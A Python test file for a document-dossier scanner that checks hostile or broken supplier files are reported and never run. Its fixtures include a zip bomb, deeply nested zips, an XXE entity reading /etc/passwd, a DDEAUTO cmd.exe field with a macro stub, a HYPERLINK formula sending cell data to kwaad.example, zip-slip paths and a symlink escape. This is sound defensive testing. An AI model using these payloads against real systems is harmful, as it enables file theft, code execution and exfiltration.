"""Bad files in a dossier: each costs itself, says why, and nothing in it is run."""

import io
import json
import os
import shutil
import zipfile
from pathlib import Path
from typing import Any

import pypdfium2
import pytest
from command_line import Sluis
from command_line import sluis as sluis  # noqa: PLC0414 - pytest finds fixtures by name

from sbom.documents.sheet_archive import read
from scanner.sheet_file import xlsx
from scanner.vendor.papers import MAX_FILE
from scanner.vendor.questions import WIDTHS
from scanner.zip_file import packed

GOOD = Path(__file__).resolve().parents[3] / "examples" / "dossiers" / "goed"


def tree(sluis: Sluis, folder: Path) -> dict[str, Any]:
    ran = sluis("vendor", "check", folder, "--format", "json", "--no-ocr")
    found: dict[str, Any] = json.loads(ran.out)
    return found


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    made = tmp_path / "dossier"
    shutil.copytree(GOOD, made)
    return made


def pdf(text: str = "", *, pages: int = 1) -> bytes:
    """A PDF with empty pages."""
    made = pypdfium2.PdfDocument.new()
    for _ in range(pages):
        made.new_page(595, 842)
    held = io.BytesIO()
    made.save(held)
    return held.getvalue()


def picture_only() -> bytes:
    """A PDF whose page is one grey picture."""
    made = pypdfium2.PdfDocument.new()
    page = made.new_page(595, 842)
    bitmap = pypdfium2.PdfBitmap.new_native(100, 140, 1)
    bitmap.fill_rect((180, 180, 180, 255), 0, 0, 100, 140)
    image = pypdfium2.PdfImage.new(made)
    image.set_bitmap(bitmap)
    image.set_matrix(pypdfium2.PdfMatrix().scale(595, 842))
    page.insert_obj(image)
    page.gen_content()
    held = io.BytesIO()
    made.save(held)
    return held.getvalue()


LOCKED = (
    b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Count 1/Kids[3 0 R]>>endobj\n"
    b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]>>endobj\n"
    b"4 0 obj<</Filter/Standard/V 1/R 2/P -4/O<"
    + b"11" * 32
    + b">/U<"
    + b"22" * 32
    + b">>>endobj\n"
    b"trailer<</Root 1 0 R/Encrypt 4 0 R/ID[<31><31>]/Size 5>>\n%%EOF\n"
)
"""A PDF that asks for a password that nobody has."""


def macro_document() -> bytes:
    """A Word document with a macro part and a field that would fetch something."""
    body = (
        '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>'
        '<w:p><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"</w:instrText></w:r>'
        "<w:r><w:t>Artikel 1 Overeenkomst: de leverancier levert.</w:t></w:r></w:p></w:body></w:document>"
    )
    kind = "application/vnd.ms-word.document.macroEnabled.main+xml"
    types = (
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        f'<Override PartName="/word/document.xml" ContentType="{kind}"/></Types>'
    )
    return packed(
        [
            ("[Content_Types].xml", types),
            ("word/document.xml", body),
            ("word/vbaProject.bin", b"\xd0\xcf\x11\xe0" + b"Sub AutoOpen()" * 20),
        ]
    )


def bomb(name: str, size: int = 300 << 20) -> bytes:
    """A zip of which one member unpacks to 300 MiB."""
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w", zipfile.ZIP_DEFLATED) as archive, archive.open(name, "w") as f:
        for _ in range(size >> 20):
            f.write(b" " * (1 << 20))
    return held.getvalue()


def nested(depth: int) -> bytes:
    """A zip in a zip in a zip."""
    content = b"einde"
    for _ in range(depth):
        content = packed([("binnen.zip", content)])
    return content


BAD = {
    "slot.pdf": LOCKED,
    "stuk.pdf": b"%PDF-1.7\n1 0 obj<</Type/Catalog",
    "half.pdf": pdf(pages=3)[:300],
    "leeg.pdf": pdf(pages=2),
    "foto.pdf": picture_only(),
    "niets.pdf": b"",
    "bom.docx": bomb("word/document.xml"),
    "bom.odt": bomb("content.xml"),
    "bom.xlsx": bomb("xl/workbook.xml"),
    "bom.zip": bomb("overeenkomst.txt"),
    "diep.zip": nested(40),
    "plaatje.docx": b"\x89PNG\r\n\x1a\n" + bytes(100),
    "ruis.xlsx": bytes(range(256)) * 40,
    "ruis.json": bytes(range(256)) * 40,
    "ruis.bin": bytes(range(256)) * 40,
    "haken.json": b"[" * 100_000,
    "entiteiten.xml": b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><bom>&x;</bom>',
    "oud.doc": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2000),
}


@pytest.mark.parametrize("name", BAD)
def test_a_bad_file_says_why_and_costs_only_itself(sluis: Sluis, folder: Path, name: str) -> None:
    before = tree(sluis, folder)
    (folder / name).write_bytes(BAD[name])
    found = tree(sluis, folder)
    about = [d for d in found["documents"] if d["name"].startswith(name)]
    assert about
    assert any(d["problems"] for d in about), about
    assert found["incomplete"]
    old = {x["id"]: x["verdict"] for x in before["lines"]}
    new = {x["id"]: x["verdict"] for x in found["lines"]}
    kept = [k for k, v in old.items() if v == "complies" and k.startswith("contract/")]
    assert len(kept) > 10
    assert [k for k in kept if new[k] != "complies"] == []


def test_a_macro_document_is_read_as_text_and_nothing_in_it_runs(
    sluis: Sluis, folder: Path
) -> None:
    for name in ("macro.docm", "macro.docx"):
        (folder / name).write_bytes(macro_document())
    papers = {d["name"]: d for d in tree(sluis, folder)["documents"]}
    for name in ("macro.docm", "macro.docx"):
        assert papers[name]["notes"] == ["holds macros; they were not run and count for nothing"]
    page = folder.parent / "toets.html"
    sluis("vendor", "check", folder, "--no-ocr", "-o", page)
    assert "bevat macro&#39;s; die zijn niet uitgevoerd" in page.read_text("utf-8")
    assert papers["macro.docm"]["kind"] != "other" or papers["macro.docm"]["problems"]
    assert "cmd.exe" not in json.dumps(papers)


def test_an_ending_that_lies_does_not_mislead(sluis: Sluis, folder: Path) -> None:
    text = (folder / "overeenkomst.txt").read_text("utf-8")
    (folder / "overeenkomst.txt").rename(folder / "overeenkomst.dat")
    product = folder / "product.yaml"
    product.write_text(
        product.read_text("utf-8") + "documents: {overeenkomst.dat: contract}\n", "utf-8"
    )
    found = tree(sluis, folder)
    kinds = {d["name"]: d["kind"] for d in found["documents"]}
    assert kinds["overeenkomst.dat"] == "contract"
    (folder / "overeenkomst.dat").unlink()
    html = f"<html><body><p>{text}</p></body></html>"
    (folder / "blad.docx").write_text(html, "utf-8")
    about = [d for d in tree(sluis, folder)["documents"] if d["name"] == "blad.docx"]
    assert about[0]["problems"] or about[0]["kind"] == "contract"


def test_half_a_gigabyte_is_not_opened(sluis: Sluis, folder: Path) -> None:
    with (folder / "groot.pdf").open("wb") as file:
        file.write(b"%PDF-1.7\n")
        os.truncate(file.fileno(), 500 << 20)
    found = tree(sluis, folder)
    (paper,) = [d for d in found["documents"] if d["name"] == "groot.pdf"]
    assert paper["bytes"] == 500 << 20
    assert paper["problems"] == [f"is larger than {MAX_FILE >> 20} MiB; not read"]
    ran = sluis("vendor", "pack", folder, "-o", folder.parent / "pakket.zip")
    assert (ran.code, "is groter dan" in ran.err) == (2, True)


FORMULA = '=HYPERLINK("http://kwaad.example/?"&A1,"klik")'


def test_a_formula_of_the_supplier_is_text_in_everything_that_we_write(
    sluis: Sluis, folder: Path, tmp_path: Path
) -> None:
    rows = [
        [
            "Kenmerk",
            "Onderwerp",
            "Vraag",
            "Voorstel",
            "Antwoord van de leverancier",
            "Beantwoord door",
        ],
        ["contract/accessibility", "", "", "", FORMULA, "@SUM(1+1)"],
    ]
    (folder / "antwoorden.xlsx").write_bytes(xlsx("Vragen", rows, WIDTHS))
    product = (folder / "product.yaml").read_text("utf-8").replace("Zaakwerk Balie", FORMULA)
    (folder / "product.yaml").write_text(
        product if FORMULA in product else f"product: '{FORMULA}'\n", "utf-8"
    )
    for form in ("xlsx", "ods", "docx", "odt"):
        file = tmp_path / f"vragen.{form}"
        sluis("vendor", "check", folder, "--questions", file, "-o", tmp_path / f"toets.{form[:1]}")
        with zipfile.ZipFile(file) as archive:
            text = b"".join(archive.read(n) for n in archive.namelist()).decode()
        assert "<f>" not in text
        assert "table:formula" not in text
        assert "TargetMode" not in text
        assert 'xlink:href="http' not in text
    (sheet,) = read((tmp_path / "vragen.xlsx").read_bytes())
    assert len(sheet.rows) > 10
    page = tmp_path / "toets.html"
    sluis("vendor", "check", folder, "-o", page)
    said = page.read_text("utf-8")
    assert "kwaad.example" in said
    assert 'href="http' not in said


def test_links_out_of_the_dossier_are_not_followed(
    sluis: Sluis, folder: Path, tmp_path: Path
) -> None:
    secret = tmp_path / "geheim.txt"
    secret.write_text("geheim woord", "utf-8")
    (folder / "link.txt").symlink_to(secret)
    ran = sluis("vendor", "check", folder, "--format", "json")
    assert "geheim woord" not in ran.out
    assert "link.txt" not in {d["name"] for d in json.loads(ran.out)["documents"]}


def test_every_reason_is_told_in_dutch_and_once(sluis: Sluis, folder: Path) -> None:
    for name in ("slot.pdf", "half.pdf", "foto.pdf", "bom.xlsx", "haken.json", "entiteiten.xml"):
        (folder / name).write_bytes(BAD[name])
    told = sluis("vendor", "check", folder, "--no-ocr").out.partition("Waar niet naar is gekeken")[
        2
    ]
    for reason in (
        "versleuteld met een wachtwoord",
        "is beschadigd",
        "te diep genest",
        "groter dan",
    ):
        assert reason in told
    for english in ("password", "Failed to load", "recursion", "could not be judged", "declares"):
        assert english not in told
    for name in ("entiteiten.xml", "half.pdf", "haken.json", "slot.pdf"):
        assert told.count(f"{name}:") == 1, told


def test_names_in_an_archive_lead_nowhere(sluis: Sluis, folder: Path, tmp_path: Path) -> None:
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w") as archive:
        for name in ("../../boos.txt", "/boos.txt", "C:\\boos.txt"):
            archive.writestr(
                name, "BIJLAGE\n\n1.1 Leverancier mag deze voorwaarden eenzijdig wijzigen."
            )
    (folder / "bijlagen.zip").write_bytes(held.getvalue())
    before = sorted(p for p in tmp_path.rglob("*") if p.name != "pakket.zip")
    papers = [d["name"] for d in tree(sluis, folder)["documents"]]
    assert sum(n.startswith("bijlagen.zip!") for n in papers) == 3
    pack = tmp_path / "pakket.zip"
    assert sluis("vendor", "pack", folder, "-o", pack, "--no-ocr").code in {0, 1, 3}
    assert sorted(p for p in tmp_path.rglob("*") if p.name != "pakket.zip") == before
    with zipfile.ZipFile(pack) as archive:
        assert not [n for n in archive.namelist() if ".." in n or n.startswith("/") or ":" in n]
